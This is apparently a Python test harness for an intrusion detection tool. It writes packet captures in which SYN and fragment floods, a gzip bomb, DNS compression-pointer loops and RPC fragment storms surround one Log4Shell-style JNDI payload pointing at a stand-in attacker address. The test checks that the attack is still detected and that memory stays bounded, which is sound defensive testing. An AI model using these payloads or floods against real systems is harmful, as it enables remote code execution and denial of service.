#!/usr/bin/env python3
"""floods.py MAMORI BUILD - recorded floods and bombs, each with one real attack in its middle: the attack is found, memory stays bounded, and what was
given up is said. The captures are made here, with addresses of RFC 5737."""
import gzip
import io
import json
import os
import struct
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
import packets  # noqa: E402
from cases import case, failed  # noqa: E402
from packets import SYN, ip, tcp, udp, write  # noqa: E402

MAMORI, BUILD = sys.argv[1:3]
SERVER, ATTACKER = bytes([192, 168, 77, 5]), bytes([198, 51, 100, 7])
IS_SANITIZED = "fsanitize" in open(os.path.join(BUILD, "CMakeCache.txt")).read()
MORE_MB = 600 if IS_SANITIZED else 160  # over a run with the attack alone: tables and windows at their ceilings


def talk(src, *what):
    return packets.talk(src, SERVER, *what)


def attack():
    return talk(ATTACKER, 40000, 80, [b"GET /?q=${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: x\r\n\r\n"],
                [b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"])


def other(i):
    return struct.pack(">I", 0xCB000000 + i * 7919 % 0xFFFFFF)


def syn_flood():
    for i in range(400000):
        yield tcp(other(i), SERVER, 1024 + i % 60000, 80, i, 0, SYN)


def fragment_flood():
    for i in range(120000):
        yield ip(other(i), SERVER, 17, b"\x00" * 1024, i, 0x2000 | (i % 16) * 128)


def pipelining():
    one = b"GET /a HTTP/1.1\r\nHost: a\r\n\r\n"
    for c in range(40):
        yield from talk(other(c), 30000 + c, 80, [one * 40] * 60)


def gzip_bombs():
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb") as g:
        for _ in range(200):
            g.write(b"\0" * (1 << 20))
    body = out.getvalue()
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body)
    for c in range(10):
        yield from talk(other(c), 31000 + c, 80, [b"GET /b HTTP/1.1\r\nHost: b\r\n\r\n"], [head] + [body[i:i + 1400] for i in range(0, len(body), 1400)])


def dns_loops():
    head = b"\x12\x34\x81\x80\x00\x01\x00\x08\x00\x00\x00\x00"
    for i in range(60000):
        loop = b"\xc0\x0c\x00\x01\x00\x01" if i % 2 else b"\x01a\xc0\x0e\x00\x01\x00\x01"
        yield udp(other(i), SERVER, 53, 30000 + i % 1000, head + loop + b"\xc0\x0c\x00\x05\x00\x01\x00\x00\x00\x01\x00\x02\xc0\x0c" * 8)


def rpc_fragments():
    bind = bytes.fromhex("05000b03100000004800000001000000b810b8100000000001000000000001000883afe11f5dc91191a408002b14a0fa030000000"
                         "45d888aeb1cc9119fe808002b10486002000000")
    body = b"\x05\x00\x00%c\x10\x00\x00\x00" + struct.pack("<HHIIHH", 24 + 1400, 0, 2, 1 << 20, 0, 0) + b"A" * 1400
    for c in range(20):
        yield from talk(other(c), 32000 + c, 135, [bind] + [body % (1 if i == 0 else 0) for i in range(1500)])


def replay(path, folder):
    out = open(os.path.join(folder, "out"), "w+b")
    p = subprocess.Popen([MAMORI, "replay", "--pcap", path, "--home-net", "192.168.77.0/24", "--findings"], stdout=out, stderr=subprocess.PIPE)
    err = p.stderr.read().decode("utf-8", "replace")
    _, status, usage = os.wait4(p.pid, 0)
    p.returncode = os.waitstatus_to_exitcode(status)
    out.seek(0)
    text = out.read().decode("utf-8", "replace")
    return p.returncode, text, err, usage.ru_maxrss / 1024


SAID = {"a_syn_flood": "flow.table_full evicted=", "a_fragment_flood": "flow.given_up fragments=", "pipelined_requests": "what=pipelined_requests n=",
        "gzip_bombs": "what=body n=", "dns_pointer_loops": "what=dns_name n=", "rpc_fragment_storms": "what=rpc_arguments n="}
FLOODS = {"a_syn_flood": syn_flood, "a_fragment_flood": fragment_flood, "pipelined_requests": pipelining, "gzip_bombs": gzip_bombs,
          "dns_pointer_loops": dns_loops, "rpc_fragment_storms": rpc_fragments}


def make(name, path):
    flood = list(FLOODS[name]()) if name in FLOODS else []
    half = len(flood) // 2
    print(write(path, flood[:half], attack(), flood[half:]))
    return 0


def made(name, path):
    """In a process of its own: a program started from a large one is charged with that one's memory."""
    return int(subprocess.run([sys.executable, __file__, MAMORI, BUILD, name, path], check=True, capture_output=True).stdout)


def main():
    folder = tempfile.mkdtemp(prefix="mamori-floods-")
    path = os.path.join(folder, "a.pcap")
    made("nothing", path)
    rc, text, err, base_mb = replay(path, folder)
    case("the_attack_alone_is_found", rc == 0 and "sid:9000002" in text, err)
    for name in FLOODS:
        n = made(name, path)
        rc, text, err, mb = replay(path, folder)
        case(f"{name}_hides_no_attack", rc == 0 and "sid:9000002" in text, (rc, err))
        case(f"{name}_stays_within_memory", mb < base_mb + MORE_MB, f"{n} packets: {mb:.0f} MB, alone {base_mb:.0f} MB")
        case(f"{name}_is_counted", SAID[name] in err, err)
        print(f"    {name}: {n} packets, {mb:.0f} MB (the attack alone: {base_mb:.0f} MB)")
        classes = [json.loads(l)["unmapped"]["mamori"] for l in text.splitlines() if '"class_uid":2005' in l]
        case(f"{name}_blames_only_the_attacker", all("198.51.100.7" in c.get("attackers", []) or c["class"] != "severe" for c in classes), classes)
    subprocess.run(["rm", "-rf", folder], check=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(make(*sys.argv[3:5]) if len(sys.argv) > 3 else main())
